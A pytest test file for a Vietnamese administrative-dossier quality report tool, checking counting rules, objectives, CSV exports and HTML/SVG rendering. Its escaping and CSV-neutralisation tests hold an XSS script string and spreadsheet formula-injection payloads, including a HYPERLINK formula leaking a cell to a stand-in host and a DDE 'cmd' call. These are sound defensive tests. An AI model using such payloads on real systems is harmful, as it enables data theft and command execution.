"""The quality-objective report: Decision 766 counting, objectives, bounded rows, well-formed SVG."""

from __future__ import annotations

import argparse
import csv
from collections import Counter

import pytest
from lxml import etree, html

from isobridge.core.cli import report as report_cli
from isobridge.core.report.agencies import CountingRules
from isobridge.core.report.aggregate import Period, aggregate, outcome
from isobridge.core.report.build import write_report
from isobridge.core.report.names import ProcedureNames
from isobridge.core.report.objectives import Objectives, ObjectivesError
from isobridge.core.report.quality import render_report
from isobridge.core import samples

from evid_support import evidence

LISTED = CountingRules(refused="listed", withdrawn="excluded")


def dossier(**fields) -> dict:
    base = {"dossier": "HS-1", "procedure": "1.001612", "agency": "UBND xã A", "channel": "direct",
            "received_at": "2026-03-10T08:00:00+07:00", "status": 10, "verdict": "on_time",
            "due_at": "2026-03-13T08:00:00+07:00", "finished_at": "2026-03-13T09:00:00+07:00",
            "steps": [], "nonconformities": []}
    return base | fields


def test_totals_match_the_verdicts_without_a_period():
    records = evidence(400)
    data = aggregate(records, rules=LISTED)  # refused dossiers listed (the portal leaves them out)
    verdicts = Counter(e["verdict"] for e in records)
    total = data.total
    assert total.dossiers == 400 and total.received == 400
    for verdict in ("early", "on_time", "late", "open_on_time", "open_overdue", "paused", "refused"):
        assert getattr(total, verdict) == verdicts[verdict], verdict
    assert total.nonconformities == sum(len(e["nonconformities"]) for e in records)
    assert sum(c.dossiers for c in data.by_channel.values()) == 400
    assert sum(c.finished for c in data.by_month.values()) == total.finished


@pytest.mark.parametrize("fields, expected", [
    ({}, ("on_time", True)),                                                     # finished in the period
    ({"finished_at": "2026-04-02T09:00:00+07:00"}, ("open_overdue", True)),      # finished after: open, due passed
    ({"finished_at": "2026-04-02T09:00:00+07:00", "due_at": "2026-04-01T08:00:00+07:00"}, ("open_on_time", True)),
    ({"received_at": "2026-02-20T08:00:00+07:00"}, ("on_time", False)),          # carried over
    ({"received_at": "2026-02-20T08:00:00+07:00", "finished_at": "2026-02-27T08:00:00+07:00"}, None),
    ({"received_at": "2026-04-05T08:00:00+07:00"}, None),                        # received after the period
    ({"verdict": "refused", "finished_at": None}, ("refused", True)),
    ({"verdict": "refused", "finished_at": None, "received_at": "2026-02-01T08:00:00+07:00"}, None),
    ({"verdict": "paused", "finished_at": None}, ("paused", True)),
    ({"finished_at": "2026-03-13T02:30:00Z"}, ("on_time", True)),               # UTC text, local day
])
def test_decision_766_outcome_at_period_end(fields, expected):
    assert outcome(dossier(**fields), Period("2026-03-01", "2026-03-31"), LISTED) == expected


def test_agency_filter_and_rejections():
    records = [dossier(dossier="A1"), dossier(dossier="B1", agency="Sở B"), {"dossier": "X"}, dossier(verdict="bogus")]
    data = aggregate(records, agency="UBND xã A")
    assert data.total.dossiers == 1
    data = aggregate(records)
    assert data.rejected == 2
    assert any("procedure: missing" in r for r in data.rejections)
    assert any("'bogus' is not a dossier verdict" in r for r in data.rejections)


def test_objectives_file(tmp_path):
    path = tmp_path / "objectives.toml"
    path.write_text('[default]\non_time_rate = ">= 98%"\noverdue_open = "<= 0"\n'
                    '[agency."Sở Tư pháp"]\non_time_rate = ">= 0.995"\n', encoding="utf-8")
    objectives = Objectives.from_file(path)
    assert objectives.for_agency("Sở Tư pháp")[0].target == 0.995
    assert [o.indicator for o in objectives.for_agency("UBND xã A")] == ["on_time_rate", "overdue_open"]
    data = aggregate([dossier(), dossier(dossier="HS-2", verdict="late", finished_at="2026-03-20T08:00:00+07:00")])
    first = objectives.default[0]
    assert first.value(data.total) == 0.5 and first.met(data.total) is False
    path.write_text('[default]\non_time = ">= 0.9"\n')
    with pytest.raises(ObjectivesError, match="default.on_time: unknown indicator"):
        Objectives.from_file(path)
    path.write_text('[default]\non_time_rate = "at least 0.9"\n')
    with pytest.raises(ObjectivesError, match="is not 'OP NUMBER'"):
        Objectives.from_file(path)


def svgs(text: str) -> list:
    """Every inline SVG of an HTML page, re-parsed as standalone XML."""
    tree = html.fromstring(text)
    found = []
    for node in tree.iter("svg"):
        found.append(etree.fromstring(etree.tostring(node), etree.XMLParser(resolve_entities=False)))
    return found


def test_html_is_escaped_and_svg_well_formed():
    records = evidence(200)
    records[0]["agency"] = '<script>alert("x")</script> & Co'
    for step in records[1]["steps"]:
        step["unit"] = "Phòng <b>Đô thị</b>"
        step["verdict"] = "late"
    page = render_report(aggregate(records), names=ProcedureNames.from_dir(samples.PROCEDURES))
    assert "<script>" not in page and "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co" in page
    charts = svgs(page)
    assert len(charts) == 3
    assert all(chart.find("{http://www.w3.org/2000/svg}title") is not None for chart in charts)
    labels = [t.text for chart in charts for t in chart.iter("{http://www.w3.org/2000/svg}text")]
    assert any(label and "Phòng <b>Đô thị</b>" in label for label in labels)


def test_rows_bounded_full_lists_as_csv(tmp_path):
    records = evidence(300)
    data, files = write_report(iter(records), tmp_path / "out" / "report.html", limit=25)
    assert len(data.ledger) == 25 and len(data.nonconformities) <= 25
    with open(files.ledger_csv, encoding="utf-8-sig", newline="") as f:
        ledger = list(csv.DictReader(f))
    assert [r["Mã hồ sơ"] for r in ledger] == [e["dossier"] for e in records if e["verdict"] != "refused"]
    with open(files.nonconformities_csv, encoding="utf-8-sig", newline="") as f:
        assert len(list(csv.DictReader(f))) == sum(len(e["nonconformities"]) for e in records
                                                   if e["verdict"] != "refused")
    page = files.html.read_text(encoding="utf-8")
    assert f"Hiển thị 25 / {len(ledger)} dòng đầu" in page and files.ledger_csv.name in page


def run_cli(*argv) -> int:
    parser = argparse.ArgumentParser()
    report_cli.add_parser(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["report", *argv])
    return args.run(args)


def test_cli_keeps_latest_revision_and_reports_bad_lines(tmp_path, capsys):
    import orjson

    records = evidence(20)
    revised = dict(records[0], verdict="late", finished_at=records[0]["finished_at"] or "2026-10-30T08:00:00+07:00")
    path = tmp_path / "evidence.jsonl"
    lines = [orjson.dumps(e) for e in records] + [b"{not json", orjson.dumps(revised)]
    path.write_bytes(b"\n".join(lines) + b"\n")
    out = tmp_path / "r.html"
    assert run_cli("--evidence", str(path), "--out", str(out), "--from", "2025-01-01", "--to", "2026-12-31") == 3
    err = capsys.readouterr().err
    counted = sum(e["verdict"] != "refused" for e in records)  # the portal does not count refused ones
    assert f"{counted} dossiers" in err and f"{path}:21: invalid JSON" in err
    with open(out.with_suffix(".so-theo-doi.csv"), encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == counted and rows[-1]["Mã hồ sơ"] == records[0]["dossier"] and rows[-1]["Kết quả"] == "Quá hạn"


def test_csv_lists_neutralise_formulas_like_the_csv_sink(tmp_path):
    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) is written with a leading apostrophe."""
    from isobridge.adapters.csvexport.rows import cell as sink_cell
    from isobridge.core.report.cells import cell

    hostile = {"agency": "=HYPERLINK(\"http://x.example/?\"&A1)", "dossier": "+HS-1",
               "nonconformities": [{"kind": "late_step", "step": "@SUM(A1)", "detail": "-1+1 cmd|' /C calc'!A0"},
                                   {"kind": "missing_step", "step": "\tTN", "detail": "ok"}]}
    data, files = write_report([dossier(**hostile)], tmp_path / "report.html")
    with open(files.ledger_csv, encoding="utf-8-sig", newline="") as f:
        ledger = next(csv.DictReader(f))
    assert ledger["Cơ quan chủ trì giải quyết"] == "'" + hostile["agency"] and ledger["Mã hồ sơ"] == "'+HS-1"
    with open(files.nonconformities_csv, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["Bước"][:9] for r in rows] == ["'@SUM(A1)", "'\tTN"[:9]]
    assert all(not r["Mô tả"].startswith(("=", "+", "-", "@")) for r in rows)
    assert rows[0]["Mã hồ sơ"] == "'+HS-1"
    assert sink_cell is cell  # one neutraliser for every CSV isobridge writes
    assert data.ledger[0]["agency"] == hostile["agency"]  # the HTML shows the text as it is (escaped)


def test_an_overlong_line_is_rejected_unread_and_the_rest_counted(tmp_path, capsys, monkeypatch):
    """A line past MAX_LINE_BYTES (a file with no line ends, say) is skipped with its line number;
    bad lines are counted past the twenty shown, so memory stays bounded."""
    import orjson
    from isobridge.core.report import source

    monkeypatch.setattr(source, "MAX_LINE_BYTES", 4096)
    records = evidence(3)
    lines = [orjson.dumps(records[0]), b"x" * 10_000, orjson.dumps(records[1])]
    lines += [b"{bad"] * 30 + [orjson.dumps(records[2])]
    path = tmp_path / "evidence.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    assert run_cli("--evidence", str(path), "--out", str(tmp_path / "r.html")) == 3
    err = capsys.readouterr().err
    assert "3 dossiers" in err and "unusable lines 31" in err
    assert f"{path}:2: line longer than 4096 bytes" in err
    found = source.find_dossier(str(path), records[2]["dossier"], lambda where, reasons: None)
    assert found == records[2]
